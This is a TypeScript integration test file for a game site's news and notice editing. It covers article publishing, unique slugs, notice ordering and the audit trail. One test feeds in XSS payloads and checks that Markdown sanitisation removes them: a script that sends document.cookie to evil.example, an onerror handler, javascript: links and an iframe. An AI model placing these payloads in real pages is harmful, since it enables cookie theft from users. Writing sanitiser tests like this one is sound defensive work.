import { Actor, ADMIN_ROLE, type NewsResponse } from '@henesys/contracts';
import { refusal, ServiceModuleUnderTest } from '@henesys/testing';
import { renderMarkdown } from '../src/articles/render-markdown';
import { AdminArticlesService } from '../src/admin/admin-articles.service';
import { AdminNoticesService } from '../src/admin/admin-notices.service';
import { ContentAudit } from '../src/admin/content-audit';
import { ContentEnv } from '../src/config/content-env';
import { NewsService } from '../src/news/news.service';
import { startContentModule } from './content-module';

/**
 * What an admin's edit does to what players see, in this process against real PostgreSQL and Redis (the
 * routes, their access rule and the gateway's cache are in content.e2e-spec.ts; each edit's staff trail
 * in content-admin.int-spec.ts): an article shown only while active, its Markdown sanitised, slugs made
 * unique, a taken slug or an unknown id refused, notices shown while active, critical first, and the
 * content trail of who changed what.
 */
describe('news editing (content module, real Postgres and Redis)', () => {
  let service: ServiceModuleUnderTest<ContentEnv>;
  let articles: AdminArticlesService;
  let notices: AdminNoticesService;
  let news: NewsService;

  const editor: Actor = { id: 7, username: 'editor', role: ADMIN_ROLE };
  const links = (body: NewsResponse) => [...body.events, ...body.updates, ...body.news].map((item) => item.link);

  beforeAll(async () => {
    service = await startContentModule('content_news');
    articles = service.get(AdminArticlesService);
    notices = service.get(AdminNoticesService);
    news = service.get(NewsService);
  }, 90_000);

  afterAll(async () => service?.close());

  it('shows a draft only once published, and hides it again when archived', async () => {
    const created = await articles.create(editor, { category: 'news', title: 'Secret Plans', content: 'Soon.' });
    expect(created).toMatchObject({ slug: 'secret-plans', status: 'inactive' });
    expect(links(await news.get())).not.toContain('/news/secret-plans');
    await articles.setStatus(editor, created.id, 'active');
    expect(links(await news.get())).toContain('/news/secret-plans');
    await articles.setStatus(editor, created.id, 'archived');
    expect(links(await news.get())).not.toContain('/news/secret-plans');
  });

  it('gives players sanitised HTML, the very HTML of the preview: no script, handler or javascript: URL', async () => {
    const hostile = [
      '# Free NX <script>fetch("https://evil.example/?c="+document.cookie)</script>',
      '<img src=x onerror="alert(1)">',
      '[claim here](javascript:alert(document.cookie))',
      '<a href="javascript:alert(1)">raw link</a>',
      '<iframe src="https://evil.example"></iframe>',
    ].join('\n\n');
    const created = await articles.create(editor, {
      category: 'update',
      title: 'Hostile',
      content: hostile,
      status: 'active',
    });
    const item = (await news.get()).updates.find((update) => update.id === created.id);
    expect(item?.content).not.toMatch(/<(script|iframe)\b/i);
    expect(item?.content).not.toMatch(/<[^>]+\son\w+\s*=/i);
    expect(item?.content).not.toMatch(/<[^>]+\s(href|src)\s*=\s*"\s*javascript:/i);
    expect(item?.content).toContain('&lt;script&gt;');
    expect(renderMarkdown(hostile)).toBe(item?.content);
  });

  it('shows an edit at once', async () => {
    const created = await articles.create(editor, {
      category: 'news',
      title: 'Edited',
      content: 'v1',
      status: 'active',
    });
    expect((await news.get()).news.find((item) => item.id === created.id)?.content).toContain('v1');
    await articles.update(editor, created.id, { category: 'news', title: 'Edited', content: 'version **two**' });
    expect((await news.get()).news.find((item) => item.id === created.id)?.content).toContain('<strong>two</strong>');
  });

  it('makes unique slugs from titles, and refuses a taken explicit slug and unknown ids', async () => {
    const input = { category: 'event' as const, title: 'Double Title!', content: 'a' };
    const [first, second] = [await articles.create(editor, input), await articles.create(editor, input)];
    expect([first.slug, second.slug]).toEqual(['double-title', 'double-title-2']);
    expect(await refusal(articles.create(editor, { ...input, title: 'x', slug: 'double-title' }))).toEqual({
      status: 409,
      message: 'An article with this slug already exists',
    });
    expect(
      (await refusal(articles.update(editor, 999_999, { category: 'news', title: 'x', content: 'c' }))).status,
    ).toBe(404);
    expect((await refusal(notices.remove(editor, 999_999))).status).toBe(404);
  });

  it('shows an active notice, critical ones first, and hides it once inactive', async () => {
    await notices.create(editor, { title: 'Maintenance', content: 'Tonight.', severity: 'warning' });
    const created = await notices.create(editor, {
      title: 'Login issues',
      content: 'We are on it.',
      severity: 'critical',
      estimatedDuration: '1 hour',
    });
    expect((await news.get()).notices.slice(0, 2)).toMatchObject([
      { id: created.id, title: 'Login issues', severity: 'critical', estimated_duration: '1 hour' },
      { title: 'Maintenance', severity: 'warning' },
    ]);
    await notices.update(editor, created.id, {
      title: 'Login issues',
      content: 'Fixed.',
      severity: 'critical',
      active: false,
    });
    expect((await news.get()).notices.map((notice) => notice.id)).not.toContain(created.id);
  });

  it('records every change in the content trail: who, when, what', async () => {
    const trail = await service.get(ContentAudit).latest();
    expect(trail.length).toBeGreaterThanOrEqual(10);
    expect(trail[0]).toEqual({
      id: expect.any(Number),
      actor: 'editor',
      action: expect.any(String),
      entity: expect.any(String),
      entityId: expect.anything(),
      summary: expect.any(String),
      at: expect.any(String),
    });
    expect(trail.map((entry) => entry.summary)).toEqual(
      expect.arrayContaining(['"Secret Plans": inactive → active', '"Secret Plans": active → archived']),
    );
  });
});
